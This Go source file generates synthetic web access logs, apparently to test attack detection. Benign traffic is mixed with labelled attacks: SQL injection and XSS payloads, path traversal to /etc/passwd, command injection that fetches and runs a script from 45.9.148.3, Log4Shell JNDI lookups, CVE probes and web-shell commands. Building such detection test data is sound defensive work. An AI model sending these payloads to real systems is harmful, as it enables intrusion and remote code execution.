package weblog

import (
	"fmt"
	"math"
	"net/netip"
	"strings"
	"time"
)

// Fixed actors.
var (
	googleIPs  = []string{"66.249.66.1", "66.249.66.33", "66.249.79.107", "66.249.68.65"}
	bingIPs    = []string{"157.55.39.212", "40.77.167.21", "207.46.13.94"}
	ahrefsIPs  = []string{"54.36.148.91", "54.36.149.12"}
	semrushIPs = []string{"185.191.171.14", "85.208.98.22"}
	lbIPs      = []string{"10.0.1.10", "10.0.2.10"}
	monitorIPs = []string{"69.162.124.226", "63.143.42.244", "216.144.250.150"}
	apiIP      = "203.0.113.50"
)

const (
	uaLB      = "ELB-HealthChecker/2.0"
	uaMonitor = "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"
	uaAPI     = "acme-inventory-sync/2.4 python-requests/2.31.0"
	apiUser   = "acme-sync"
)

// actors of the plan: per-minute generators and the attacks.
type plan struct {
	visitSrc, googleSrc, bingSrc, botSrc, lbSrc, monSrc, apiSrc, noiseSrc int16
	attacks                                                               []scheduled
}

type scheduled struct {
	t   int64
	run func(t int64)
}

func addrs(ss []string) []netip.Addr {
	out := make([]netip.Addr, len(ss))
	for i, s := range ss {
		out[i] = netip.MustParseAddr(s)
	}
	return out
}

// plan registers the sources of the truth and schedules the attacks.
func (g *gen) plan() {
	p := &g.pl
	p.visitSrc = g.addBenign(Benign{Name: "visitors", SourceIPs: []string{"(many)"}})
	g.visitor.src = p.visitSrc
	p.googleSrc = g.addBenign(Benign{Name: "googlebot", SourceIPs: googleIPs})
	p.bingSrc = g.addBenign(Benign{Name: "bingbot", SourceIPs: bingIPs})
	p.botSrc = g.addBenign(Benign{Name: "seo-crawlers", SourceIPs: append(append([]string{}, ahrefsIPs...), semrushIPs...)})
	p.lbSrc = g.addBenign(Benign{Name: "health-checks", SourceIPs: lbIPs})
	p.monSrc = g.addBenign(Benign{Name: "uptime-monitor", SourceIPs: monitorIPs})
	p.apiSrc = g.addBenign(Benign{Name: "api-client", SourceIPs: []string{apiIP}})
	p.noiseSrc = -1 // background noise: single probes, judged low at most (not in the truth)
	g.schedule(g.frac(3.0/24+10.0/1440), g.scanner)
	g.schedule(g.frac(9.0/24), g.stuffing)
	g.schedule(g.frac(10.0/24+40.0/1440), g.sqli)
	g.schedule(g.frac(14.0/24+5.0/1440), g.exploits)
	g.schedule(g.frac(16.5/24), g.flood)
	g.schedule(g.frac(20.25/24), g.webShell)
	g.schedule(g.frac(22.0/24), g.basicAuth)
	if g.cfg.Hard {
		for i := 0; i < 6; i++ {
			g.schedule(g.frac((4.5+3.1*float64(i))/24), g.crawler)
		}
		for i := 0; i < 11; i++ {
			g.schedule(g.frac((1.3+2.05*float64(i))/24), g.cveProbe)
		}
	}
}

// crawlerUAs are aggressive crawlers' user agents (no published ranges).
var crawlerUAs = []string{
	"Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
	"Mozilla/5.0 (compatible; DataForSeoBot/1.0; +https://dataforseo.com/dataforseo-bot)",
	"Scrapy/2.11.0 (+https://scrapy.org)",
	"python-requests/2.31.0",
	"Go-http-client/1.1",
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/121.0.0.0 Safari/537.36",
}

// crawler: an aggressive crawler, 125–450 page requests in 15–60 s.
func (g *gen) crawler(t int64) {
	ip := netip.AddrFrom4([4]byte{byte(5 + g.rng.IntN(40)), byte(g.rng.IntN(256)), byte(g.rng.IntN(256)), byte(1 + g.rng.IntN(254))})
	src := g.addAttack(Attack{Name: "aggressive-crawler", SourceIPs: []string{ip.String()}, Start: time.Unix(0, t).UTC(), Rules: []string{"web.flood"}})
	ua := g.pick(crawlerUAs)
	n := 125 + g.rng.IntN(326)
	d := int64(15+g.rng.IntN(46)) * int64(time.Second)
	for i := 0; i < n; i++ {
		r := rec{t: t + int64(i)*d/int64(n), ip: ip, ua: ua, proto: "HTTP/1.1", method: "GET", target: g.page(false),
			status: 200, bytes: int32(15000 + g.rng.IntN(50000)), src: src}
		if g.rng.IntN(30) == 0 {
			r.target, r.status, r.bytes = "/products/"+g.product()+"-old", 404, 5120
		}
		g.push(r)
	}
}

// cveProbes are the request sets of bots that hunt one vulnerability.
var cveProbes = [][]string{
	{"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/laravel/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/www/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"},
	{"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "/cgi-bin/.%%32%65/.%%32%65/.%%32%65/bin/sh", "/icons/.%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"},
	{"/GponForm/diag_Form?images/", "/GponForm/diag_Form?style/", "/boaform/admin/formLogin"},
	{"/actuator/gateway/routes", "/actuator/gateway/routes/hacktest", "/actuator/gateway/refresh"},
	{"/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello", "/?s=index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=1"},
	{"/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "/api/v2/cmdb/system/admin/admin"},
	{"/_ignition/execute-solution"},
	{"/vpn/../vpns/cfg/smb.conf", "/vpns/portal/scripts/newbm.pl"},
	{"/HNAP1/", "/HNAP1"},
	{"/owa/auth/x.js", "/autodiscover/autodiscover.json?@test.com/owa/?&Email=autodiscover/autodiscover.json%3F@test.com"},
	{"/solr/admin/cores?action=STATUS&wt=json", "/solr/admin/info/system?wt=json"},
}

// cveProbe: a bot hunting one known vulnerability with 3–4 requests.
func (g *gen) cveProbe(t int64) {
	ip := netip.AddrFrom4([4]byte{byte(45 + g.rng.IntN(150)), byte(g.rng.IntN(256)), byte(g.rng.IntN(256)), byte(1 + g.rng.IntN(254))})
	src := g.addAttack(Attack{Name: "cve-probe", SourceIPs: []string{ip.String()}, Start: time.Unix(0, t).UTC(), Rules: []string{"web.exploit_probe"}})
	set := cveProbes[g.rng.IntN(len(cveProbes))]
	ua := g.pick([]string{"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36",
		"Mozilla/5.0 zgrab/0.x", "python-requests/2.28.1", "Go-http-client/1.1", "curl/7.88.1"})
	n := 3 + g.rng.IntN(2)
	for i := 0; i < n; i++ {
		method := "GET"
		if strings.Contains(set[i%len(set)], "ignition") || strings.Contains(set[i%len(set)], "HNAP") || strings.Contains(set[i%len(set)], "eval-stdin") {
			method = "POST"
		}
		g.push(rec{t: t + int64(i)*int64(time.Duration(2+g.rng.IntN(20))*time.Second), ip: ip, ua: ua, proto: "HTTP/1.1", method: method,
			target: set[i%len(set)], status: 404, bytes: 5120, src: src})
	}
}

// minute schedules the episodes that start in [m, next).
func (g *gen) minute(m, next int64, eps []episode) []episode {
	p := &g.pl
	span := next - m
	tm := time.Unix(0, m).In(g.cfg.Start.Location())
	// visitors: Poisson arrivals at the day's rhythm
	rate := 3.0 * diurnal(tm) * g.visitScale * float64(span) / float64(time.Minute)
	for i, n := 0, g.poisson(rate); i < n; i++ {
		eps = g.at(eps, m+g.rng.Int64N(span), g.session)
	}
	// crawlers
	for _, c := range []struct {
		ips  []string
		ua   []string
		rate float64
		src  int16
	}{
		{googleIPs, []string{uaGooglebot, uaGooglebot, uaGooglebotMobile}, 2.6, p.googleSrc},
		{bingIPs, []string{uaBingbot}, 1.2, p.bingSrc},
		{ahrefsIPs, []string{uaAhrefs}, 0.5, p.botSrc},
		{semrushIPs, []string{uaSemrush}, 0.4, p.botSrc},
	} {
		n := g.poisson(c.rate * g.visitScale * float64(span) / float64(time.Minute))
		for i := 0; i < n; i++ {
			c := c
			eps = g.at(eps, m+g.rng.Int64N(span), func(t int64) { g.crawl(t, c.ips, c.ua, c.src) })
		}
	}
	// health checks every 10 s from each load balancer, the monitor every 5 min
	eps = g.at(eps, m, func(t int64) {
		for i, ip := range addrs(lbIPs) {
			for s := int64(0); s < span; s += int64(10 * time.Second) {
				g.push(rec{t: t + s + int64(i)*int64(5*time.Second) + g.rng.Int64N(int64(50*time.Millisecond)), ip: ip, ua: uaLB,
					method: "GET", target: "/healthz", proto: "HTTP/1.1", status: 200, bytes: 2, src: p.lbSrc})
			}
		}
		if (t-g.start)/int64(time.Minute)%5 == 0 {
			for i, ip := range addrs(monitorIPs) {
				g.push(rec{t: t + int64(i)*int64(7*time.Second), ip: ip, ua: uaMonitor, method: "HEAD", target: "/", proto: "HTTP/1.1",
					status: 200, bytes: 0, src: p.monSrc})
			}
		}
	})
	// the API client: ~45 requests a minute, all day
	eps = g.at(eps, m, func(t int64) {
		ip := netip.MustParseAddr(apiIP)
		n := 40 + g.rng.IntN(11)
		for i := 0; i < n; i++ {
			r := rec{t: t + g.rng.Int64N(span), ip: ip, user: apiUser, ua: uaAPI, proto: "HTTP/1.1", src: p.apiSrc}
			if g.rng.IntN(10) == 0 {
				r.method, r.target, r.status, r.bytes = "PUT", fmt.Sprintf("/api/v1/orders/%d/status", 700000+g.rng.IntN(90000)), 204, 0
			} else {
				r.method = "GET"
				r.target = fmt.Sprintf("/api/v1/stock?sku=SKU-%05d&warehouse=%s", g.rng.IntN(40000), g.pick([]string{"fra1", "ams2", "lon1"}))
				r.status, r.bytes = 200, int32(220+g.rng.IntN(200))
			}
			switch x := g.rng.IntN(1000); {
			case x < 8:
				r.status, r.bytes = 429, 64
			case x < 10:
				r.status, r.bytes = 503, 180
			}
			g.push(r)
		}
	})
	// Internet background noise
	if g.rng.IntN(4) == 0 {
		eps = g.at(eps, m+g.rng.Int64N(span), g.noise)
	}
	// attacks
	for len(p.attacks) > 0 && p.attacks[0].t < next {
		a := p.attacks[0]
		p.attacks = p.attacks[1:]
		eps = g.at(eps, max(a.t, m), a.run)
	}
	return eps
}

// poisson draws a Poisson count (Knuth for small means, normal above).
func (g *gen) poisson(mean float64) int {
	if mean <= 0 {
		return 0
	}
	if mean > 30 {
		return max(0, int(math.Round(mean+math.Sqrt(mean)*g.rng.NormFloat64())))
	}
	l, k, p := math.Exp(-mean), 0, 1.0
	for {
		p *= g.rng.Float64()
		if p <= l {
			return k
		}
		k++
	}
}

// schedule adds an attack at t (kept sorted).
func (g *gen) schedule(t int64, run func(t int64)) {
	p := &g.pl
	p.attacks = append(p.attacks, scheduled{t, run})
	for i := len(p.attacks) - 1; i > 0 && p.attacks[i].t < p.attacks[i-1].t; i-- {
		p.attacks[i], p.attacks[i-1] = p.attacks[i-1], p.attacks[i]
	}
}

// crawl is one crawler visit: robots.txt now and then, a run of pages.
func (g *gen) crawl(t int64, ips, uas []string, src int16) {
	ip := netip.MustParseAddr(ips[g.rng.IntN(len(ips))])
	ua := uas[g.rng.IntN(len(uas))]
	r := rec{t: t, ip: ip, ua: ua, proto: "HTTP/1.1", method: "GET", src: src}
	if g.rng.IntN(20) == 0 {
		r.target, r.status, r.bytes = "/robots.txt", 200, 312
		g.push(r)
		r.t += int64(2 * time.Second)
		r.target, r.bytes = "/sitemap.xml", 48211
		g.push(r)
	}
	for i, n := 0, 1+g.rng.IntN(4); i < n; i++ {
		r.t += int64(time.Duration(1+g.rng.IntN(20)) * time.Second)
		r.target, r.status, r.bytes = g.page(false), 200, int32(15000+g.rng.IntN(50000))
		switch x := g.rng.IntN(100); {
		case x < 3: // a product that is gone
			r.target, r.status, r.bytes = "/products/"+g.product()+"-old", 404, 5120
		case x < 5: // an old URL scheme
			r.target, r.status, r.bytes = "/shop/item.html?id="+fmt.Sprint(1000+g.rng.IntN(9000)), 301, 0
		}
		g.push(r)
	}
}

// noise is one Internet background probe.
func (g *gen) noise(t int64) {
	ip := netip.AddrFrom4([4]byte{byte(45 + g.rng.IntN(150)), byte(g.rng.IntN(256)), byte(g.rng.IntN(256)), byte(1 + g.rng.IntN(254))})
	r := rec{t: t, ip: ip, proto: "HTTP/1.1", method: "GET", status: 404, bytes: 5120, src: g.pl.noiseSrc}
	switch g.rng.IntN(6) {
	case 0:
		r.target, r.ua = "/wp-login.php", browserUAs[0]
	case 1:
		r.target, r.ua = "/.env", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0.3904.108 Safari/537.36"
	case 2:
		r.raw, r.status, r.bytes = `\x16\x03\x01\x00\xfc\x01\x00\x00\xf8\x03\x03\xb5\x7f\x1c`, 400, 166
	case 3:
		r.target, r.status, r.bytes, r.ua = "/", 200, 41234, "Mozilla/5.0 zgrab/0.x"
	case 4:
		r.target, r.status, r.bytes, r.ua = "/", 200, 41234, "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"
	default:
		r.target, r.ua = "/favicon.ico", ""
		r.status, r.bytes = 200, 1150
	}
	g.push(r)
}

// ------------------------------------------------------------- attacks

// scanner: a Nikto wordlist scan, ~1800 requests in 8 minutes.
func (g *gen) scanner(t int64) {
	ipS := g.cfg.ScannerIP
	if ipS == "" {
		ipS = "45.155.205.233"
	}
	src := g.addAttack(Attack{Name: "wordlist-scanner", SourceIPs: []string{ipS}, Start: time.Unix(0, t).UTC(),
		Rules: []string{"web.scanner", "web.sensitive_file", "web.never_served", "web.user_agent"}})
	ip := netip.MustParseAddr(ipS)
	dirs := []string{"", "admin/", "backup/", "old/", "test/", "dev/", "tmp/", "wp/", "blog/", "cms/", "app/", "api/", "private/", "files/", "data/", "site/", "web/"}
	files := []string{".env", ".git/config", ".git/HEAD", ".svn/entries", "backup.zip", "backup.tar.gz", "db.sql", "dump.sql", "wp-config.php.bak",
		"config.php.bak", "phpinfo.php", "info.php", "server-status", "wp-login.php", "xmlrpc.php", "phpmyadmin/", "pma/", "manager/html",
		"cgi-bin/test.cgi", "login.php", "admin.php", "index.php", "install.php", "setup.php", "upload.php", "web.config", ".htaccess", ".htpasswd",
		"composer.json", "package.json", "README.md", "CHANGELOG.txt", "config.json", "settings.py", "credentials", "id_rsa", "console", "actuator/env",
		"solr/", "jmx-console/", "vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "administrator/", "user/login", "elmah.axd", "test.aspx", "default.asp"}
	ua := "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:%06d)"
	n := 0
	for _, d := range dirs {
		for _, f := range files {
			n++
			r := rec{t: t + int64(n)*int64(8*time.Minute)/int64(len(dirs)*len(files)), ip: ip, ua: fmt.Sprintf(ua, n), proto: "HTTP/1.1",
				method: "GET", target: "/" + d + f, status: 404, bytes: 5120, src: src}
			if n%7 == 0 {
				r.method = "HEAD"
				r.bytes = 0
			}
			if d == "admin/" && f == "login.php" || f == "server-status" {
				r.status, r.bytes = 403, 199
			}
			if d == "" && (f == "README.md" || f == "package.json") {
				r.status = 200 // the site's own files
				r.bytes = 1840
			}
			g.push(r)
		}
	}
	// and a few pages of the site itself
	for _, p := range []string{"/", "/robots.txt", "/login", "/search?q=test"} {
		n++
		g.push(rec{t: t + int64(n)*int64(time.Second), ip: ip, ua: fmt.Sprintf(ua, n), proto: "HTTP/1.1", method: "GET", target: p, status: 200, bytes: 30000, src: src})
	}
}

// sqli: sqlmap with a random browser user agent against /products and
// /search, with XSS probes; some payloads make the application fail (500).
func (g *gen) sqli(t int64) {
	ipS := "185.220.101.47"
	src := g.addAttack(Attack{Name: "sql-injection", SourceIPs: []string{ipS}, Start: time.Unix(0, t).UTC(), Rules: []string{"web.injection", "web.error_storm"}})
	ip := netip.MustParseAddr(ipS)
	ua := "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0"
	templates := []func(a, b int, w string) string{
		func(a, b int, w string) string { return fmt.Sprintf("%d' AND %d=%d AND '%s'='%s", a, b, b, w, w) },
		func(a, b int, w string) string { return fmt.Sprintf("%d) AND %d=%d AND (%d=%d", a, b, b, a, a) },
		func(a, b int, w string) string { return fmt.Sprintf("%d' OR NOT %d=%d-- -", a, b, b+1) },
		func(a, b int, w string) string {
			return fmt.Sprintf("%d UNION ALL SELECT NULL,NULL,CONCAT(0x7171,0x%x,0x7178)-- -", a, b)
		},
		func(a, b int, w string) string {
			return fmt.Sprintf("%d' AND (SELECT %d FROM (SELECT(SLEEP(5)))%s)-- -", a, b, w)
		},
		func(a, b int, w string) string {
			return fmt.Sprintf("%d AND EXTRACTVALUE(%d,CONCAT(0x5c,0x71,(SELECT (ELT(%d=%d,1)))))", a, b, b, b)
		},
		func(a, b int, w string) string {
			return fmt.Sprintf("-%d' UNION SELECT %d,table_name FROM information_schema.tables-- -", a, b)
		},
		func(a, b int, w string) string { return fmt.Sprintf("%d';WAITFOR DELAY '0:0:5'--", a) },
		func(a, b int, w string) string { return fmt.Sprintf("%d AND 1=CAST((SELECT version()) AS int)", a) },
		func(a, b int, w string) string { return fmt.Sprintf("%d\" AND %d=%d AND \"%s\"=\"%s", a, b, b, w, w) },
	}
	xss := []string{"<script>alert(%d)</script>", "\"><svg/onload=alert(%d)>", "<img src=x onerror=prompt(%d)>", "javascript:alert(%d)//"}
	dur := int64(25 * time.Minute)
	for i := 0; i < 420; i++ {
		tt := t + int64(i)*dur/420
		a, b := 1000+g.rng.IntN(9000), 1000+g.rng.IntN(9000)
		w := fmt.Sprintf("%x", g.rng.Uint32())[:4]
		var target string
		status, bytes := int16(200), int32(21000+g.rng.IntN(3000))
		if i%5 == 4 {
			payload := fmt.Sprintf(xss[i%len(xss)], a)
			target = "/search?q=" + urlEscape(payload)
		} else {
			payload := templates[i%len(templates)](a, b, w)
			target = fmt.Sprintf("/products?id=%s&sort=price", urlEscape(payload))
			if i%2 == 0 {
				status, bytes = 500, 1820 // the SQL error page
			}
		}
		g.push(rec{t: tt, ip: ip, ua: ua, proto: "HTTP/1.1", method: "GET", target: target, status: status, bytes: bytes, src: src})
	}
}

// urlEscape percent-encodes like sqlmap (spaces as %20).
func urlEscape(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		c := s[i]
		if c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c >= '0' && c <= '9' || c == '-' || c == '_' || c == '.' || c == ',' || c == '(' || c == ')' {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02X", c)
		}
	}
	return b.String()
}

// exploits: traversal (double-encoded), command injection and a Log4Shell
// lookup in the user agent and a parameter.
func (g *gen) exploits(t int64) {
	ipS := "193.142.146.35"
	src := g.addAttack(Attack{Name: "traversal-command-log4shell", SourceIPs: []string{ipS}, Start: time.Unix(0, t).UTC(), Rules: []string{"web.injection"}})
	ip := netip.MustParseAddr(ipS)
	ua := "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"
	targets := []string{
		"/download?file=../../../../etc/passwd", "/download?file=..%252f..%252f..%252f..%252fetc%252fpasswd", "/download?file=%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fshadow",
		"/download?file=....//....//....//etc/passwd", "/static/..%c0%af..%c0%af..%c0%afetc/passwd", "/download?file=php://filter/convert.base64-encode/resource=index.php",
		"/api/v1/ping?host=8.8.8.8;id", "/api/v1/ping?host=8.8.8.8%7Ccat%20/etc/passwd", "/api/v1/ping?host=%60whoami%60", "/api/v1/ping?host=$(curl%20http://45.9.148.3/x.sh%7Csh)",
		"/search?q=%24%7Bjndi%3Aldap%3A%2F%2F45.9.148.3%3A1389%2Fa%7D", "/?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2F45.9.148.3%2Fb%7D", "/search?q=%7B%7B7*7%7D%7D",
	}
	for i := 0; i < 45; i++ {
		r := rec{t: t + int64(i)*int64(8*time.Second), ip: ip, ua: ua, proto: "HTTP/1.1", method: "GET", target: targets[i%len(targets)], status: 400, bytes: 310, src: src}
		if i%4 == 0 {
			r.ua = "${jndi:ldap://45.9.148.3:1389/Basic/Command/Base64/d2dldCBodHRwOi8vNDUuOS4xNDguMy94LnNo}"
			r.target, r.status, r.bytes = "/", 200, 41234
		}
		if strings.HasPrefix(r.target, "/search") {
			r.status, r.bytes = 200, 9800
		}
		g.push(r)
	}
}

// stuffing: credential stuffing on /login from six residential proxies,
// each rotating browser user agents, for two hours; one account falls.
func (g *gen) stuffing(t int64) {
	ips := []string{"91.92.240.17", "103.152.17.88", "177.54.146.92", "5.188.62.140", "186.96.50.39", "37.120.247.52"}
	src := g.addAttack(Attack{Name: "credential-stuffing", SourceIPs: ips, Start: time.Unix(0, t).UTC(), Rules: []string{"web.login_hammering", "web.user_agent"}})
	span := g.frac(2.0/24) - g.start
	for k, s := range ips {
		ip := netip.MustParseAddr(s)
		n := 240 + g.rng.IntN(30)
		for i := 0; i < n; i++ {
			tt := t + int64(k)*int64(7*time.Second) + int64(i)*span/int64(n) + g.rng.Int64N(int64(3*time.Second))
			r := rec{t: tt, ip: ip, ua: browserUAs[g.rng.IntN(len(browserUAs))], proto: "HTTP/1.1", method: "POST", target: "/login",
				ref: "https://shop.example.com/login", status: 200, bytes: int32(7600 + g.rng.IntN(3)), src: src}
			if k == 2 && (i == n-20 || i == n-7) {
				r.status, r.bytes = 302, 0 // a reused password works
			}
			g.push(r)
		}
	}
}

// basicAuth: an HTTP Basic brute force on /admin/ trying many accounts.
func (g *gen) basicAuth(t int64) {
	ipS := "80.94.95.115"
	users := []string{"admin", "root", "administrator", "test", "user", "webmaster", "support", "shop", "manager", "guest"}
	src := g.addAttack(Attack{Name: "basic-auth-brute-force", SourceIPs: []string{ipS}, Users: users[:3], Start: time.Unix(0, t).UTC(), Rules: []string{"web.login_hammering"}})
	ip := netip.MustParseAddr(ipS)
	for i := 0; i < 300; i++ {
		g.push(rec{t: t + int64(i)*int64(3*time.Second), ip: ip, user: users[i%len(users)], ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36",
			proto: "HTTP/1.1", method: "GET", target: "/admin/", status: 401, bytes: 381, src: src})
	}
}

// flood: an HTTP flood of the search (expensive) for six minutes, ~25/s;
// the shop starts answering 503.
func (g *gen) flood(t int64) {
	ipS := "91.240.118.222"
	src := g.addAttack(Attack{Name: "http-flood", SourceIPs: []string{ipS}, Start: time.Unix(0, t).UTC(), Rules: []string{"web.flood", "web.error_storm"}})
	ip := netip.MustParseAddr(ipS)
	ua := browserUAs[1]
	n := 6 * 1500
	for i := 0; i < n; i++ {
		r := rec{t: t + int64(i)*int64(6*time.Minute)/int64(n), ip: ip, ua: ua, proto: "HTTP/1.1", method: "GET",
			target: "/search?q=" + fmt.Sprintf("%x", g.rng.Uint64()), status: 200, bytes: int32(9000 + g.rng.IntN(2000)), src: src}
		if i > n/3 && g.rng.IntN(3) == 0 {
			r.status, r.bytes = 503, 180
		}
		g.push(r)
	}
}

// webShell: an account's avatar upload accepts a PHP file, which the
// attacker then runs commands through for forty minutes.
func (g *gen) webShell(t int64) {
	ipS := "102.165.48.91"
	src := g.addAttack(Attack{Name: "web-shell", SourceIPs: []string{ipS}, Start: time.Unix(0, t).UTC(), Rules: []string{"web.web_shell", "web.injection"}})
	ip := netip.MustParseAddr(ipS)
	ua := browserUAs[4]
	r := rec{t: t, ip: ip, ua: ua, proto: "HTTP/1.1", method: "GET", target: "/login", status: 200, bytes: 7400, src: src}
	g.push(r)
	r.t, r.method, r.status, r.bytes = t+int64(20*time.Second), "POST", 302, 0
	g.push(r)
	r.t, r.method, r.target, r.status, r.bytes = t+int64(25*time.Second), "GET", "/account", 200, 11200
	g.push(r)
	r.t, r.method, r.target, r.status, r.bytes, r.ref = t+int64(60*time.Second), "POST", "/account/avatar/upload", 200, 96, "https://shop.example.com/account"
	g.push(r)
	r.ref = ""
	shell := "/uploads/avatars/7f3a9c2e1b.php"
	for i, c := range []string{"id", "uname+-a", "cat+/etc/passwd", "ls+-la+/var/www"} {
		r.t, r.method, r.target, r.status, r.bytes = t+int64(90+20*i)*int64(time.Second), "GET", shell+"?cmd="+c, 200, int32(80+g.rng.IntN(2000))
		g.push(r)
	}
	for i := 0; i < 15; i++ {
		r.t, r.method, r.target, r.status, r.bytes = t+int64(4*time.Minute)+int64(i)*int64(150*time.Second), "POST", shell, 200, int32(200+g.rng.IntN(20000))
		g.push(r)
	}
}
